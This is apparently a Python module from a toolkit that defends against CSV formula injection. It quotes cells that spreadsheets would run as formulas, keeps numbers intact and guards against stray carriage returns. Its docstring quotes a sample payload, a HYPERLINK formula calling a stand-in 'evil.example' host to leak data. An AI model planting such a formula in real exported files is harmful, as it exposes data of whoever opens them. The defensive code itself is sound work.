"""The one rule for every CSV cell the kit writes: text a spreadsheet would run as a formula is
neutralised, numbers stay numbers (OWASP, "CSV Injection",
https://owasp.org/www-community/attacks/CSV_Injection; CWE-1236).

Spreadsheets (Excel, LibreOffice Calc, Google Sheets) read a cell whose first character is
``=``, ``+``, ``-``, ``@``, a tab (0x09) or a carriage return (0x0D) as a formula, so a deal named
``=HYPERLINK("http://evil.example/?leak","open")`` becomes a live link in whoever opens the
file. OWASP's mitigation, applied here to every cell:

- a text cell starting with one of those characters gets a single quote ``'`` in front, which
  spreadsheets take as "this is text" (`neutralise`);
- every cell is written by Python's `csv` writer, which quotes a cell holding a comma, a quote or
  a line break (a carriage return too, see `writer`) and doubles its quotes, so no text can end
  its cell and start another (`writer`, `csv_text`, and `frame_csv` for a pandas DataFrame).

Two kinds of text are left as they are, on purpose, and the tests pin both:

- a plain ASCII decimal number written as text (``-3.5``, ``+2``, ``-1e-3``; `PLAIN_NUMBER`, the
  same form the data package's CSV rules read as a number): a spreadsheet reads it as that number
  and runs nothing, and a column of numbers that arrived as text stays a column of numbers.
  ``-2+3`` or ``+1+1`` are not plain numbers and are neutralised;
- a lone ``-``, the usual mark for "none" (the gradebook's exercise column uses it): one character
  is no formula.

Real numbers (int, float, numpy numbers), None and the empty text are never touched. Another
object (a date, say) is judged by its text, as the writer will write it.

This module is below every layer (it imports nothing of the kit and nothing outside the standard
library; `frame_csv` uses the DataFrame it is given), so the command line, the reports' chart
downloads, the gradebook and the data exports all use it.
"""

from __future__ import annotations

import csv
import io
import numbers
import re
from collections.abc import Iterable
from typing import Any, TextIO, overload

__all__ = ["FORMULA_START", "PLAIN_NUMBER", "is_dangerous", "neutralise", "neutralise_row", "writer", "csv_text",
           "frame_csv"]

#: A text cell starting with one of these is read as a formula by spreadsheets (OWASP).
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

#: A plain ASCII decimal number: optional sign, digits with an optional fraction, optional exponent.
PLAIN_NUMBER = re.compile(r"[+-]?(?:[0-9]+(?:\.[0-9]*)?|\.[0-9]+)(?:[eE][+-]?[0-9]+)?")


def is_dangerous(text: str) -> bool:
    """True if a spreadsheet could run `text` as a formula (see the module for the two exceptions)."""
    return (text.startswith(FORMULA_START) and text != "-"
            and not (text.isascii() and PLAIN_NUMBER.fullmatch(text)))


def neutralise(value: Any) -> Any:
    """`value` with a ``'`` put before it if it is text a spreadsheet would run as a formula;
    anything else unchanged (numbers, None, safe text)."""
    if value is None or isinstance(value, numbers.Number):
        return value
    text = value if isinstance(value, str) else str(value)
    if is_dangerous(text):
        return "'" + text
    return value


def neutralise_row(row: Iterable[Any]) -> list[Any]:
    """`neutralise` applied to every cell of a row."""
    return [neutralise(v) for v in row]


class _Writer:
    """A CSV writer whose rows are neutralised cell by cell (unless told they already are) and whose
    cells are quoted when they hold a delimiter, a quote, a line feed or a carriage return.

    Python's `csv` writer quotes a cell only for the characters of its own line ending, so with
    ``\n`` line endings a carriage return inside a cell would go out bare, and spreadsheets break
    the line there: ``a\r=1`` would start a new row with ``=1``. Each row is therefore written
    with ``\r\n`` (both characters force quoting) and its last two characters are then replaced
    by the line ending asked for."""

    def __init__(self, stream: TextIO, lineterminator: str = "\n", cells_are_safe: bool = False, **fmtparams: Any):
        self._stream, self._end, self._safe = stream, lineterminator, cells_are_safe
        self._buf = io.StringIO()
        self._w = csv.writer(self._buf, lineterminator="\r\n", **fmtparams)

    def writerow(self, row: Iterable[Any]) -> None:
        self._w.writerow(list(row) if self._safe else neutralise_row(row))
        line = self._buf.getvalue()
        self._buf.seek(0)
        self._buf.truncate()
        self._stream.write(line[:-2] + self._end)

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(stream: TextIO, lineterminator: str = "\n", **fmtparams: Any) -> _Writer:
    """A CSV writer on `stream` (`writerow`, `writerows`; `csv.writer`'s format arguments, lines
    ending in ``\n``) that neutralises every cell and quotes every cell holding a line break: the
    one way the kit writes CSV rows."""
    return _Writer(stream, lineterminator=lineterminator, **fmtparams)


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """The CSV text of `rows` (the first is usually the column names), every cell neutralised."""
    buf = io.StringIO()
    writer(buf).writerows(rows)
    return buf.getvalue()


@overload
def frame_csv(frame: Any, stream: None = None, float_format: str | None = None) -> str: ...
@overload
def frame_csv(frame: Any, stream: TextIO, float_format: str | None = None) -> None: ...


def frame_csv(frame: Any, stream: TextIO | None = None, float_format: str | None = None) -> str | None:
    """A pandas DataFrame as CSV, without its index: its column names and text cells neutralised
    (columns of numbers are left as they are), numbers and missing values written by pandas
    (`float_format`, an empty cell for NaN). The text, or None when written to `stream`.

    pandas quotes a cell holding a line feed but not one holding a bare carriage return (see
    `writer`); when a text cell holds one, the rows pandas wrote are written again by `writer`'s
    quoting, so that cell is quoted too.

    Cost, measured on 100,000 rows of `rekit simulate`'s columns (5 text, 5 number; medians of 7
    alternating runs on a loaded 2-core machine): 1.47 s against 0.91 s for a plain ``to_csv``
    (1.6x, the per-cell check of the text columns); 1.70 s when a cell holds a carriage return."""
    safe = frame.rename(columns=neutralise)  # a copy
    carriage = any("\r" in str(c) for c in safe.columns)
    for i in range(safe.shape[1]):
        column = safe.iloc[:, i]
        if column.dtype.kind in "biufc":  # numbers stay numbers
            continue
        column = column.map(neutralise)
        safe.isetitem(i, column)
        carriage = carriage or any(isinstance(v, str) and "\r" in v for v in column)
    if not carriage:
        return safe.to_csv(stream, index=False, float_format=float_format, lineterminator="\n")
    text = safe.to_csv(index=False, float_format=float_format, lineterminator="\r\n")
    rows = csv.reader(io.StringIO(text, newline=""))
    if stream is not None:
        _Writer(stream, cells_are_safe=True).writerows(rows)
        return None
    buf = io.StringIO()
    _Writer(buf, cells_are_safe=True).writerows(rows)
    return buf.getvalue()
